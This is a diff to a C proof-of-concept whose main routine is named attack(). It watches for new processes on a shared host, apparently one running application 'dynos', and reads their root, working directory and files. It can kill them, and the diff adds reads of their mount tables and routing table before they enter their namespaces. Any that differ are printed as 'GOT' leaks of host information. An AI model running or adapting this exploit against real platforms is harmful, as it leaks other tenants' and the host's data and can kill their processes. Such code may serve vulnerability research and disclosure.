@@ -24,6 +24,10 @@
 
 #define PID_MAX 4194304 /* of 64-bit kernels */
 
+#define TABLE_SIZE 512 /* the beginning tells */
+
+static const char *const tables[] = {"mountinfo", "net/fib_trie"};
+static char own_tables[2][TABLE_SIZE];
 static struct stat own_root;
 static unsigned char known[PID_MAX / 8];
 
@@ -121,6 +125,38 @@ static void try_files(int proc_fd, int pid) {
                 (void)close(fd);
 }
 
+static bool read_table(int proc_fd, const char *name, char text[TABLE_SIZE]) {
+        int fd = openat(proc_fd, name, O_RDONLY | O_CLOEXEC);
+        ssize_t n;
+
+        if (fd < 0)
+                return false;
+        n = read(fd, text, TABLE_SIZE - 1);
+        (void)close(fd);
+        text[n > 0 ? n : 0] = '\0';
+        return n > 0;
+}
+
+/*
+ * Of a process's mounts and its network anybody who sees it may read. They are the host's
+ * while it has not joined the namespaces of the dyno. (Each has addresses of its own.)
+ */
+static void try_tables(int proc_fd, int pid) {
+        char text[TABLE_SIZE];
+
+        for (size_t i = 0; i < sizeof(tables) / sizeof(tables[0]); i++)
+                if (read_table(proc_fd, tables[i], text) && strcmp(text, own_tables[i]) != 0)
+                        (void)printf("GOT %d %s: %.60s\n", pid, tables[i], text);
+}
+
+static void read_own_tables(void) {
+        int proc_fd = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
+
+        for (size_t i = 0; i < sizeof(tables) / sizeof(tables[0]); i++)
+                (void)read_table(proc_fd, tables[i], own_tables[i]);
+        (void)close(proc_fd);
+}
+
 static void attack(int pid, int signo) {
         char path[32];
         bool seen = false;
@@ -136,6 +172,7 @@ static void attack(int pid, int signo) {
                 try_folder(proc_fd, pid, "root");
                 try_folder(proc_fd, pid, "cwd");
                 try_files(proc_fd, pid);
+                try_tables(proc_fd, pid);
                 if (signo != 0)
                         (void)kill(pid, signo);
                 if (i == 0 && !seen)
@@ -167,6 +204,7 @@ int main(int argc, char **argv) {
                 signo = SIGKILL;
         if (stat("/", &own_root) < 0)
                 return 1;
+        read_own_tables();
         (void)setvbuf(stdout, NULL, _IOLBF, 0);
         known[self / 8] = (unsigned char)(1 << self % 8);
         (void)printf("waiting\n");
